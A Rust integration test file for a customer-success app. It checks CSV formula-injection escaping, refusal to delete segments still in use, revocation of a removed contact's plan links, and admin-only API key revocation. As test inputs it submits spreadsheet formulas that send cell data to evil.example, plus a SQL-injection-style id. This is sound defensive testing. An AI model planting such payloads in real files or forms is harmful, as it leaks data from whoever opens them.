//! Data-level holes: settings pulled out from under their users, formula injection in CSV
//! exports, removed contacts keeping shared-plan links, API keys outliving their creator.

use crate::common::*;
use reqwest::StatusCode;
use serde_json::{json, Value};

/// A cookie-less client that does not follow redirects: a visitor holding a public link.
fn visitor() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

async fn account_of(c: &Client, name: &str) -> String {
    let (s, b) = c
        .call("accounts/create", &account_form(name, "enterprise"))
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    b["id"].as_str().unwrap().to_string()
}

async fn contact_of(c: &Client, account: &str, name: &str, email: &str) -> String {
    let (s, b) = c
        .call(
            "accounts/contacts/add",
            &[
                ("account_id", account),
                ("input[name]", name),
                ("input[email]", email),
            ],
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    b["id"].as_str().unwrap().to_string()
}

// ---- formula injection in CSV exports -------------------------------------------------------

/// The first characters that make a spreadsheet evaluate a cell.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

#[tokio::test]
async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_export() {
    let app = spawn_app().await;
    let admin = admin(&app).await;
    let csm = user_with_role(&app, &admin, "csm").await;
    let acc = account_of(&csm, "Formula Co").await;
    let prompt = "What should we build next?";
    let (s, survey) = csm
        .call(
            "surveys/create",
            &[
                ("input[name]", "Event CSAT"),
                ("input[kind]", "csat"),
                ("input[audience]", "accounts"),
                ("input[ids][0]", &acc),
                ("input[questions][0][prompt]", prompt),
                ("input[questions][0][kind]", "text"),
            ],
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{survey}");
    let sid = survey["id"].as_str().unwrap();
    let url = format!(
        "{}/s/a/{}",
        app.base,
        survey["public_key"].as_str().unwrap()
    );

    // What an anonymous visitor sends, and the cell the CSM's export must hold.
    let exfiltrate = r#"=HYPERLINK("https://evil.example/?d="&H2,"x")"#;
    let ordinary = "Queue too long; fix it =SUM of all fears";
    let cases: Vec<(&str, String)> = vec![
        (exfiltrate, format!("'{exfiltrate}")),
        ("+1", "'+1".into()),
        ("-2+3", "'-2+3".into()),
        ("@SUM(A1)", "'@SUM(A1)".into()),
        // The public form trims surrounding whitespace, so a leading tab or carriage return
        // never reaches the file; the formula behind it must still be neutralised.
        ("\t=1+1", "'=1+1".into()),
        ("\r@SUM(A1:A9)", "'@SUM(A1:A9)".into()),
        (ordinary, ordinary.into()),
    ];
    let web = visitor();
    for (comment, _) in &cases {
        let res = web
            .post(&url)
            .form(&[("score", "3"), ("comment", comment)])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::SEE_OTHER, "{comment:?}");
    }
    // A free-text extra question is a second way in.
    let answer = r#"=WEBSERVICE("https://evil.example/?"&I2)"#;
    let res = web
        .post(&url)
        .form(&[("score", "5"), ("comment", "See my answer"), ("q1", answer)])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER);

    let res = csm.get(&format!("/surveys/{sid}/responses.csv")).await;
    assert_eq!(res.status(), StatusCode::OK);
    let body = res.text().await.unwrap();
    let mut rdr = csv::Reader::from_reader(body.as_bytes());
    let headers = rdr.headers().unwrap().clone();
    let col = |name: &str| {
        headers
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name} in {headers:?}"))
    };
    let (comment_col, answer_col) = (col("comment"), col(prompt));
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), cases.len() + 1);
    let comments: Vec<&str> = rows.iter().map(|r| &r[comment_col]).collect();
    for (sent, expected) in &cases {
        assert!(
            comments.contains(&expected.as_str()),
            "{sent:?} should export as {expected:?}; comments: {comments:?}"
        );
    }
    let with_answer = rows
        .iter()
        .find(|r| &r[comment_col] == "See my answer")
        .expect("the response with an extra answer");
    assert_eq!(&with_answer[answer_col], format!("'{answer}"));
    // Whatever else is in the file, no cell starts like a formula.
    for cell in headers.iter().chain(rows.iter().flat_map(|r| r.iter())) {
        assert!(
            !cell.starts_with(FORMULA_STARTS),
            "a cell starts like a formula: {cell:?}"
        );
    }
}

// ---- settings pulled out from under their users ---------------------------------------------

async fn save_segment(c: &Client, name: &str, query: &str) -> String {
    let (s, b) = c
        .call("segments/save", &[("name", name), ("query", query)])
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    b["id"].as_str().unwrap().to_string()
}

async fn segment_ids(c: &Client) -> Vec<String> {
    let (s, b) = c.call("segments/list", &[]).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    b.as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap().to_string())
        .collect()
}

/// Tries to delete `id`: refused with 409, a message naming each of `users`, and still there.
async fn refused_while_used(c: &Client, id: &str, users: &[&str]) -> String {
    let (s, b) = c.call("segments/delete", &[("id", id)]).await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    let message = b["Conflict"].as_str().unwrap_or_else(|| panic!("{b}"));
    for user in users {
        assert!(message.contains(user), "{user:?} not named in {message:?}");
    }
    assert!(segment_ids(c).await.iter().any(|s| s == id), "{id} gone");
    message.to_string()
}

async fn give_segment_a_health_model(app: &TestApp, admin: &Client, segment: &str) {
    let (s, ed) = admin.call("health/editor", &[("scope", segment)]).await;
    assert_eq!(s, StatusCode::OK, "{ed}");
    let res = admin
        .http
        .post(format!("{}/api/health/save_model", app.base))
        .json(&json!({ "scope": segment, "config": ed["model"]["config"] }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
}

async fn add_qbr_rule(admin: &Client, segment: &str) {
    let (s, b) = admin
        .call(
            "engagement/rules/add",
            &[
                ("input[segment_id]", segment),
                ("input[kind]", "qbr"),
                ("input[every_days]", "90"),
            ],
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
}

/// A survey of a segment's contacts; `recurrence_months` blank for a one-off. Returns its id.
async fn segment_survey(c: &Client, name: &str, segment: &str, recurrence_months: &str) -> String {
    let (s, b) = c
        .call(
            "surveys/create",
            &[
                ("input[name]", name),
                ("input[kind]", "nps"),
                ("input[audience]", "segment"),
                ("input[segment]", segment),
                ("input[recurrence_months]", recurrence_months),
            ],
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    b["id"].as_str().unwrap().to_string()
}

async fn close_survey(c: &Client, id: &str) {
    let (s, b) = c
        .call("surveys/set_active", &[("id", id), ("active", "false")])
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
}

#[tokio::test]
async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses() {
    let app = spawn_app().await;
    let admin = admin(&app).await;
    let csm = user_with_role(&app, &admin, "csm").await;

    // Used by an admin's health model.
    let modelled = save_segment(&csm, "Enterprise", "tier=enterprise").await;
    give_segment_a_health_model(&app, &admin, &modelled).await;
    let message = refused_while_used(&csm, &modelled, &["the health model “Enterprise”"]).await;
    assert_eq!(
        message,
        "this segment is used by the health model “Enterprise”; change those first"
    );
    // The way out is an admin's: stop using the model (a CSM may not; the default model
    // cannot be retired). Then the segment may go, and its accounts fall to the default.
    let (s, _) = csm
        .call("health/retire_model", &[("scope", modelled.as_str())])
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, b) = admin
        .call("health/retire_model", &[("scope", "default")])
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    let (s, b) = admin
        .call("health/retire_model", &[("scope", modelled.as_str())])
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let in_force = app::store::health::current_models(&app.db).await.unwrap();
    assert!(in_force.iter().all(|m| m.scope != modelled), "retired");
    assert_eq!(
        app::store::health::all_versions(&app.db)
            .await
            .unwrap()
            .iter()
            .filter(|m| m.scope == modelled)
            .count(),
        1,
        "its versions stay for the history"
    );
    let (s, _) = admin
        .call("health/retire_model", &[("scope", modelled.as_str())])
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "nothing left to retire");
    let (s, b) = csm.call("segments/delete", &[("id", &modelled)]).await;
    assert_eq!(s, StatusCode::OK, "{b}");

    // Used by an admin's cadence rule; once the rule is gone, the segment may go.
    let ruled = save_segment(&csm, "Big renewals", "tier=enterprise&stage=renewal").await;
    add_qbr_rule(&admin, &ruled).await;
    refused_while_used(
        &csm,
        &ruled,
        &["the cadence rule “Quarterly business review every 90 days”"],
    )
    .await;
    let (s, rules) = admin.call("engagement/rules", &[]).await;
    assert_eq!(s, StatusCode::OK, "{rules}");
    let rule = rules
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["segment_id"] == ruled.as_str())
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (s, b) = admin
        .call("engagement/rules/remove", &[("id", &rule)])
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let (s, b) = csm.call("segments/delete", &[("id", &ruled)]).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert!(!segment_ids(&csm).await.contains(&ruled));

    // Used by a recurring survey: refused even while the survey is closed, since reopening it
    // resumes the schedule.
    let surveyed = save_segment(&csm, "Small", "tier=smb").await;
    let recurring = segment_survey(&csm, "Quarterly NPS", &surveyed, "3").await;
    refused_while_used(&csm, &surveyed, &["the survey “Quarterly NPS”"]).await;
    close_survey(&csm, &recurring).await;
    refused_while_used(&csm, &surveyed, &["the survey “Quarterly NPS”"]).await;

    // An open one-off survey can still be sent; once closed, it has gone out and the segment
    // may go.
    let one_off_segment = save_segment(&csm, "Launch", "tier=smb&stage=onboarding").await;
    let one_off = segment_survey(&csm, "Launch CSAT", &one_off_segment, "").await;
    refused_while_used(&csm, &one_off_segment, &["the survey “Launch CSAT”"]).await;
    close_survey(&csm, &one_off).await;
    let (s, b) = csm
        .call("segments/delete", &[("id", &one_off_segment)])
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");

    // Everything at once: one sentence naming each user.
    let shared = save_segment(&csm, "Strategic", "tier=enterprise&stage=growth").await;
    give_segment_a_health_model(&app, &admin, &shared).await;
    add_qbr_rule(&admin, &shared).await;
    segment_survey(&csm, "Strategic NPS", &shared, "6").await;
    let message = refused_while_used(&csm, &shared, &[]).await;
    assert_eq!(
        message,
        "this segment is used by the health model “Strategic”, the cadence rule “Quarterly \
         business review every 90 days” and the survey “Strategic NPS”; change those first"
    );
    // An admin is held to the same rule.
    let (s, _) = admin.call("segments/delete", &[("id", &shared)]).await;
    assert_eq!(s, StatusCode::CONFLICT);

    // Nothing uses this one: it goes. Forged and already-deleted ids are 404s.
    let unused = save_segment(&csm, "Scratch", "stage=growth").await;
    let (s, b) = csm.call("segments/delete", &[("id", &unused)]).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    for id in [unused.as_str(), "forged", "x') OR true; --"] {
        let (s, b) = csm.call("segments/delete", &[("id", id)]).await;
        assert_eq!(s, StatusCode::NOT_FOUND, "{id}: {b}");
    }
    let left = segment_ids(&csm).await;
    for id in [&surveyed, &shared] {
        assert!(left.contains(id), "{id} should still exist: {left:?}");
    }
    assert!(
        !left.contains(&modelled),
        "deleted once its model was retired"
    );
    assert_eq!(left.len(), 2, "{left:?}");
}

// ---- a removed contact's shared-plan links --------------------------------------------------

fn tasks_of(detail: &Value) -> Vec<Value> {
    detail["plan"]["milestones"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|m| m["tasks"].as_array().unwrap().clone())
        .collect()
}

async fn plan_detail(c: &Client, id: &str) -> Value {
    let (s, b) = c.call("plans/get", &[("id", id)]).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    b
}

async fn share_link(c: &Client, plan: &str, contact: &str) -> (String, String) {
    let (s, share) = c
        .call(
            "plans/share",
            &[("plan_id", plan), ("contact_id", contact), ("days", "30")],
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{share}");
    (
        share["id"].as_str().unwrap().to_string(),
        share["url"].as_str().unwrap().to_string(),
    )
}

#[tokio::test]
async fn removing_a_contact_revokes_the_plan_links_shared_with_them() {
    let app = spawn_app().await;
    let admin = admin(&app).await;
    let csm = user_with_role(&app, &admin, "csm").await;
    let acc = account_of(&csm, "Leaver Co").await;
    let dana = contact_of(&csm, &acc, "Dana Lee", "dana@leaver.co").await;
    let fox = contact_of(&csm, &acc, "Fox Mulder", "fox@leaver.co").await;
    let today = chrono::Utc::now().date_naive().to_string();
    let (s, plan) = csm
        .call(
            "plans/create",
            &[
                ("account_id", acc.as_str()),
                ("input[title]", "Leaver onboarding"),
                ("input[template_id]", "onboarding"),
                ("input[start]", today.as_str()),
            ],
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{plan}");
    let plan = plan.as_str().unwrap().to_string();
    let (dana_share, dana_url) = share_link(&csm, &plan, &dana).await;
    let (_, fox_url) = share_link(&csm, &plan, &fox).await;

    let web = visitor();
    let res = web.get(&dana_url).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert!(res.text().await.unwrap().contains("Hi Dana,"));
    let task = tasks_of(&plan_detail(&csm, &plan).await)
        .into_iter()
        .find(|t| t["owner_role"] == "customer")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();

    // Dana leaves the customer; the CSM removes her.
    let (s, b) = csm
        .call(
            "accounts/contacts/remove",
            &[("account_id", &acc), ("contact_id", &dana)],
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let detail = plan_detail(&csm, &plan).await;
    let share = detail["shares"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == dana_share.as_str())
        .unwrap()
        .clone();
    assert!(share["revoked_at"].is_string(), "{share}");
    assert_eq!(detail["events"][0]["kind"], "share_revoked");
    assert!(detail["events"][0]["text"]
        .as_str()
        .unwrap()
        .contains("Dana Lee"));
    let events_after_removal = detail["events"].as_array().unwrap().len();

    // The link she kept is refused, for reading and for changes; nothing changes.
    let res = web.get(&dana_url).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    assert!(!res.text().await.unwrap().contains("Leaver onboarding"));
    let res = web
        .post(format!("{dana_url}/tasks/{task}"))
        .form(&[("done", "1")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    let res = web
        .post(format!("{dana_url}/comments"))
        .form(&[("text", "Still here")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    let detail = plan_detail(&csm, &plan).await;
    assert!(tasks_of(&detail).iter().all(|t| t["status"] == "open"));
    assert_eq!(
        detail["events"].as_array().unwrap().len(),
        events_after_removal
    );

    // Fox's link is his own and keeps working.
    assert_eq!(
        web.get(&fox_url).send().await.unwrap().status(),
        StatusCode::OK
    );

    // Removing a contact of another account through this one is refused, and revokes nothing.
    let other = account_of(&csm, "Other Co").await;
    let (s, _) = csm
        .call(
            "accounts/contacts/remove",
            &[("account_id", &other), ("contact_id", &fox)],
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    assert_eq!(
        web.get(&fox_url).send().await.unwrap().status(),
        StatusCode::OK
    );

    // A contact removed before removals revoked links left the share open in the database:
    // the link checks that its contact still exists.
    app.db
        .query("DELETE type::record('contact', $id)")
        .bind(("id", fox.clone()))
        .await
        .unwrap()
        .check()
        .unwrap();
    assert_eq!(
        web.get(&fox_url).send().await.unwrap().status(),
        StatusCode::NOT_FOUND
    );
}

// ---- API keys and the admins who made them --------------------------------------------------

/// Sends one good usage event with `key`; returns the status.
async fn send_event(app: &TestApp, key: &str, account: &str) -> StatusCode {
    let body = json!([{
        "account_id": account, "kind": "login", "contact_email": "a@keys.co",
        "at": chrono::Utc::now().to_rfc3339(), "idempotency_key": app::store::new_key(),
    }]);
    reqwest::Client::new()
        .post(format!("{}/api/v1/events", app.base))
        .header("authorization", format!("Bearer {key}"))
        .json(&body)
        .send()
        .await
        .unwrap()
        .status()
}

/// Creates a key through Settings; returns (id, secret).
async fn create_key(c: &Client, name: &str) -> (String, String) {
    let (s, b) = c
        .call(
            "api_keys/create",
            &[("name", name), ("scopes[0]", "events:write")],
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    (
        b[0]["id"].as_str().unwrap().to_string(),
        b[1].as_str().unwrap().to_string(),
    )
}

#[tokio::test]
async fn only_admins_list_and_revoke_api_keys_and_a_revoked_key_is_refused() {
    let app = spawn_app().await;
    let admin = admin(&app).await;
    let acc = account_of(&admin, "Keys Co").await;
    let (id, secret) = create_key(&admin, "Analytics").await;
    assert_eq!(send_event(&app, &secret, &acc).await, StatusCode::ACCEPTED);

    for role in ["csm", "exec"] {
        let other = user_with_role(&app, &admin, role).await;
        let (s, b) = other.call("api_keys/list", &[]).await;
        assert_eq!(s, StatusCode::FORBIDDEN, "{role}: {b}");
        let (s, b) = other.call("api_keys/revoke", &[("id", &id)]).await;
        assert_eq!(s, StatusCode::FORBIDDEN, "{role}: {b}");
    }
    let (s, _) = Client::new(&app)
        .call("api_keys/revoke", &[("id", &id)])
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    assert_eq!(
        send_event(&app, &secret, &acc).await,
        StatusCode::ACCEPTED,
        "the refused revokes changed nothing"
    );

    let (s, b) = admin.call("api_keys/revoke", &[("id", &id)]).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(
        send_event(&app, &secret, &acc).await,
        StatusCode::UNAUTHORIZED
    );
    let (s, b) = admin.call("api_keys/list", &[]).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(b[0]["revoked"], true, "{b}");
}

#[tokio::test]
async fn a_key_outlives_its_deactivated_maker_shows_it_and_another_admin_revokes_it() {
    let app = spawn_app().await;
    let ada = admin(&app).await;
    let (_, me) = ada.call("auth/me", &[]).await;
    let ada_id = me["id"].as_str().unwrap().to_string();
    let acc = account_of(&ada, "Leaver Keys Co").await;
    let (id, secret) = create_key(&ada, "Warehouse sync").await;
    let second = user_with_role(&app, &ada, "admin").await;

    let (s, b) = second.call("api_keys/list", &[]).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(
        b[0]["created_by"],
        json!({ "name": "Ada Admin", "active": true })
    );

    // Ada leaves; the second admin deactivates her.
    let (s, b) = second
        .call(
            "users/access",
            &[("id", &ada_id), ("role", "admin"), ("active", "false")],
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");

    // By design her key keeps working, and Settings says whose it was.
    assert_eq!(send_event(&app, &secret, &acc).await, StatusCode::ACCEPTED);
    let (s, b) = second.call("api_keys/list", &[]).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let key = b
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["id"] == id.as_str())
        .unwrap();
    assert_eq!(
        key["created_by"],
        json!({ "name": "Ada Admin", "active": false })
    );
    assert_eq!(key["revoked"], false);

    let (s, b) = second.call("api_keys/revoke", &[("id", &id)]).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(
        send_event(&app, &secret, &acc).await,
        StatusCode::UNAUTHORIZED
    );
}
